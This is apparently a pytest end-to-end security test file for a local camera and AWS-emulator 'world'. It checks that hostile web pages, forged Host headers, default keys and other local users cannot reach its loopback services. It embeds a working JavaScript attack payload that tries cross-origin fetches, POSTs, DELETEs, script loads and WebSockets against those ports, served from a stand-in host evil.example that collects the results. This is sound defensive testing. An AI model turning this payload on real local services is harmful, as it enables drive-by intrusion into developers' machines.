"""Pages of others in the developer's browser, and other users of the machine: they reach no port of a running world."""

import http.client
import itertools
import json
import subprocess
from collections import Counter
from collections.abc import Iterator, Mapping
from contextlib import closing
from dataclasses import dataclass, field
from typing import Any, cast
from urllib.parse import urlsplit

import boto3
import psutil
import pytest
from botocore.exceptions import ClientError
from selenium.webdriver import Chrome
from selenium.webdriver.common.by import By

from cli.users.sign_in import THANKS
from tests.end_to_end.conftest import RunningWorld
from tests.support.chromium import chromium, need_chromium, wait_for
from tests.support.command import PROGRAM
from tests.support.threaded_server import Request, threaded_server
from tests.support.world_process import wait_until

pytestmark = [pytest.mark.world, pytest.mark.xdist_group("world"), pytest.mark.timeout(180)]
EVIL = "evil.example"

ATTACK = """
const results = [];
async function attempt(url, name, work, patience = 4000) {
  try { const got = await Promise.race([work(), new Promise((_, no) => setTimeout(() => no("late"), patience))]);
        if (got) results.push([url, name, String(got)]); } catch (refused) { }
}
function socket(url, protocol) {
  return new Promise((yes, no) => { const one = new WebSocket(url, protocol);
    one.onopen = () => yes("open"); one.onerror = no; });
}
function script(url) {
  return new Promise((yes, no) => { const one = document.createElement("script"); one.onload = () => yes("ran");
    one.onerror = no; one.src = url; document.body.append(one); });
}
async function attack(targets, sockets) {
  for (const [url, text, headers] of targets) {
    await Promise.all([
      attempt(url, "read", async () => (await fetch(url)).status),
      attempt(url, "read credentials", async () => (await fetch(url, {credentials: "include"})).status),
      attempt(url, "post", async () => (await fetch(url, {method: "POST", body: text, headers})).status),
      attempt(url, "simple post", async () => { await fetch(url, {method: "POST", mode: "no-cors", body: text}); }),
      attempt(url, "form post", async () => { await fetch(url, {method: "POST", mode: "no-cors",
        body: new URLSearchParams(text)}); }),
      attempt(url, "get", async () => { await fetch(url, {mode: "no-cors"}); }),
      attempt(url, "delete", async () => (await fetch(url, {method: "DELETE"})).status),
      attempt(url, "script", () => script(url)),
    ]);
  }
  // A browser lets sockets that fail wait for each other.
  await Promise.all(sockets.map(url => attempt(url, "socket", () => socket(url, "mqtt"), 20000)));
  return results;
}
"""


@dataclass
class Attacker:
    """A web server whose pages attack. What a page achieved is posted to `/results`."""

    url: str
    targets: list[list[Any]]
    results: list[Any] = field(default_factory=list)


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chrome]:
    need_chromium()
    with chromium(tmp_path_factory.mktemp("profile"), EVIL) as one:
        yield one


def targets_of(world: RunningWorld) -> list[list[Any]]:
    """What pages try: addresses, with a body that would do something, and headers that need to be allowed."""
    content = world.content
    aws, control, signaling = (content[f"{name}_url"] for name in ("aws_endpoint", "control", "signaling_endpoint"))
    function = {"FunctionName": "evil", "Runtime": "python3.11", "Role": "arn:aws:iam::000000000000:role/x"}
    amz = {"Content-Type": "application/x-amz-json-1.0", "X-Amz-Target": "AmazonSQS.CreateQueue"}
    as_json = {"Content-Type": "application/json"}
    camera = dict.fromkeys(("endpoint_id", "friendly_name", "channel_name", "thing_name"), "evil")
    deeds: list[list[Any]] = [
        [f"{aws}/2015-03-31/functions", json.dumps(function), as_json],
        [f"{aws}/", "Action=CreateQueue&QueueName=evil", {}],
        [f"{aws}/", json.dumps({"QueueName": "evil"}), amz],
        [f"{aws}/_ministack/reset", "{}", {}],
        [f"{aws}/_ministack/config", "{}", as_json],
        [f"{control}/cameras", json.dumps(camera), as_json],
        [f"{control}/account", json.dumps({"user_id": "evil", "access_token": "evil"}), as_json],
        [f"{control}/status", "{}", as_json],
        [f"{signaling}/createSignalingChannel", json.dumps({"ChannelName": "evil"}), as_json],
        [f"{content['event_gateway_url']}/v3/events", "{}", as_json],
    ]
    ports = ports_of(world)
    return [*deeds, *([f"http://127.0.0.1:{port}/", "{}", {}] for port in ports)]


def ports_of(world: RunningWorld) -> list[int]:
    """All ports on which the world's processes listen, each of loopback only."""
    supervisor = psutil.Process(world.content["pid"])
    found = set()
    for process in (supervisor, *supervisor.children(recursive=True)):
        for connection in process.net_connections("tcp"):
            if connection.status == psutil.CONN_LISTEN:
                assert connection.laddr.ip in {"127.0.0.1", "::1"}, (process.cmdline(), connection)
                found.add(connection.laddr.port)
    assert len(found) >= 7  # AWS, control, four of the signaling service, two of Alexa
    return sorted(found)


def mqtt_of(world: RunningWorld) -> str:
    """Where cameras connect to the broker: the one who knows the name gets in."""
    iot = world.session().client("iot", endpoint_url=world.content["aws_endpoint_url"])
    return f"ws://{iot.describe_endpoint(endpointType='iot:Data-ATS')['endpointAddress']}/mqtt"


def state_of(world: RunningWorld) -> dict[str, Any]:
    """What a page could have changed."""
    aws, session = world.content["aws_endpoint_url"], world.session()
    kvs = session.client("kinesisvideo", endpoint_url=world.content["signaling_endpoint_url"])
    functions = session.client("lambda", endpoint_url=aws).list_functions()["Functions"]
    requests = Counter(one["operation"] for one in ask(world, "/signaling/requests")["requests"])
    return {
        "functions": [one["FunctionName"] for one in functions],
        "queues": session.client("sqs", endpoint_url=aws).list_queues().get("QueueUrls", []),
        "channels": [one["ChannelName"] for one in kvs.list_signaling_channels()["ChannelInfoList"]],
        "cameras": [one["endpoint_id"] for one in ask(world, "/status")["cameras"]],
        "account": world.content["account"],
        "events": len(ask(world, "/alexa/events?since=0&wait=0")["events"]),
        "offers": requests["SendAlexaOfferToMaster"],
        "others": requests["UnknownOperation"],
    }


def send(url: str, method: str, headers: Mapping[str, str], body: str | None = None) -> tuple[int, bytes]:
    """Status and body of what a program gets."""
    address = urlsplit(url)
    with closing(http.client.HTTPConnection("127.0.0.1", address.port, timeout=10)) as connection:
        connection.request(method, f"{address.path}?{address.query}", body, dict(headers))
        response = connection.getresponse()
        return response.status, response.read()


def ask(world: RunningWorld, path: str) -> Any:  # noqa: ANN401 - JSON
    return json.loads(send(world.content["control_url"] + path, "GET", {})[1])


@pytest.fixture
def attacker(world: RunningWorld) -> Iterator[Attacker]:
    one = Attacker("", targets_of(world))
    sockets = [*(f"ws://127.0.0.1:{port}/" for port in ports_of(world)), mqtt_of(world)]

    def handle(request: Request) -> None:
        if request.path == "/open":
            request.reply(200, headers={"Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*"})
            return
        if request.path == "/results":
            one.results.append(json.loads(request.body))
            request.reply(204, headers={"Access-Control-Allow-Origin": "*"})
            return
        frame = '<iframe sandbox="allow-scripts allow-forms" src="/attack"></iframe>'
        work = f"""attack({json.dumps(one.targets)}, {json.dumps(sockets)}).then(results => fetch("{one.url}/results",
            {{method: "POST", mode: "no-cors", body: JSON.stringify(results)}}))"""
        page = frame if request.path == "/frame" else f"<script>{ATTACK}\n{work}</script>"
        if request.path == "/link":
            page = f'<a id="link" href="{one.targets[0][0]}">go</a>'
        request.reply(200, f"<!doctype html><body>{page}</body>".encode(), {"Content-Type": "text/html"})

    with threaded_server(handle) as url:
        one.url = url
        one.targets.append([f"{url}/open", "{}", {}])
        yield one


@pytest.mark.parametrize("origin", ["another site", "another port of loopback", "a sandboxed frame"])
def test_a_page_of_others_reaches_no_port_of_a_world(
    world: RunningWorld, browser: Chrome, attacker: Attacker, origin: str
) -> None:
    before = state_of(world)
    host = EVIL if origin == "another site" else "127.0.0.1"
    path = "frame" if origin == "a sandboxed frame" else "attack"
    browser.get(f"http://{host}:{urlsplit(attacker.url).port}/{path}")
    wait_until_posted(attacker)
    (reached,) = attacker.results
    assert {url for url, _, _ in reached} == {f"{attacker.url}/open"}  # which shows that the page does try
    assert state_of(world) == before


def wait_until_posted(attacker: Attacker) -> None:
    wait_until(lambda: bool(attacker.results), 120)


def test_a_name_that_was_led_to_loopback_reaches_nothing(world: RunningWorld) -> None:
    before = state_of(world)
    for url, text, headers in targets_of(world):
        address = urlsplit(url)
        strange = (f"{EVIL}:{address.port}", EVIL, f"127.0.0.1.{EVIL}:{address.port}", f"localhost:{address.port}1", "")
        for host, method in itertools.product(strange, ("GET", "POST")):
            status, _ = send(url, method, {**headers, "Host": host}, text if method == "POST" else None)
            assert status in {400, 403}, (method, url, host)
    assert state_of(world) == before


OPERATIONS = {
    "cloudformation": "list_stacks",
    "dynamodb": "list_tables",
    "iot-data": "publish",
    "kinesisvideo": "list_signaling_channels",
    "lambda": "list_functions",
    "s3": "list_buckets",
    "sts": "get_caller_identity",
}
KEYS = [("test", "test"), ("000000000000", "test"), ("123456789012", "123456789012"), ("AKIAEXAMPLE", "x")]


@pytest.mark.parametrize("key", KEYS)
def test_who_does_not_know_the_worlds_key_reaches_nothing(world: RunningWorld, key: tuple[str, str]) -> None:
    session = boto3.Session(*key, region_name="us-east-1")
    urls = {"kinesisvideo": world.content["signaling_endpoint_url"]}
    for service, operation in OPERATIONS.items():
        client: Any = cast("Any", session).client(
            service, endpoint_url=urls.get(service, world.content["aws_endpoint_url"])
        )
        with pytest.raises(ClientError) as caught:
            getattr(client, operation)(**({"topic": "cameras/x/events/status"} if operation == "publish" else {}))
        assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == 403


def test_the_control_api_is_reached_only_by_who_knows_its_path(world: RunningWorld) -> None:
    url = world.content["control_url"]
    for path in ("/status", "/cameras", "/x/status"):
        assert send(f"http://{urlsplit(url).netloc}{path}", "GET", {})[0] == 404
    assert send(f"{url}/account", "DELETE", {"Content-Type": "text/plain"})[0] == 400


def test_the_hosted_login_works_in_a_browser_that_comes_from_another_page(
    world: RunningWorld, browser: Chrome, attacker: Attacker
) -> None:
    email, password = "browser@example.com", "Example-password-1"
    assert world.run("users", "add", email, "--password-stdin", stdin=f"{password}\n").exit_code == 0
    command = [str(PROGRAM), "login", "--no-browser", "--folder", str(world.folder)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as login:
        try:
            assert login.stderr is not None
            url = next(line.strip() for line in login.stderr if line.startswith("http"))
            attacker.targets = [[url]]
            browser.get(f"http://{EVIL}:{urlsplit(attacker.url).port}/link")
            browser.find_element(By.ID, "link").click()
            wait_for(browser, "document.getElementById('username')")
            browser.find_element(By.ID, "username").send_keys(email)
            browser.find_element(By.ID, "password").send_keys(password)
            browser.find_element(By.CSS_SELECTOR, "button[type=submit]").click()
            assert THANKS in wait_for(
                browser, f"document.body.innerText.includes({THANKS!r}) && document.body.innerText"
            )
            assert login.wait(30) == 0
        finally:
            login.kill()
    assert world.run("users", "remove", email, "--yes").exit_code == 0
    assert world.run("login").exit_code == 0


def test_a_world_keeps_its_files_to_its_user(world: RunningWorld) -> None:
    assert world.folder.stat().st_mode & 0o777 == 0o700
    for path in (world.folder / "world.json", *(world.folder / "logs").iterdir()):
        assert path.stat().st_mode & 0o077 == 0, path


def test_no_secret_of_a_world_is_on_a_command_line(world: RunningWorld) -> None:
    """Other users of the machine can read those of all processes."""
    assert world.run("cameras", "add", "Cellar").exit_code == 0
    assert world.run("world", "plug-in", "Cellar").exit_code == 0
    try:
        broker = urlsplit(mqtt_of(world)).netloc.partition("-")[0]
        secrets = [world.content["secret_access_key"], world.content["control_url"].rpartition("/")[2], broker]
        supervisor = psutil.Process(world.content["pid"])
        lines = [" ".join(process.cmdline()) for process in (supervisor, *supervisor.children(recursive=True))]
        assert [line for line in lines if "simulator.camera" in line]
        assert not [line for line in lines if any(secret in line for secret in secrets)]
    finally:
        world.run("cameras", "remove", "Cellar", "--yes")
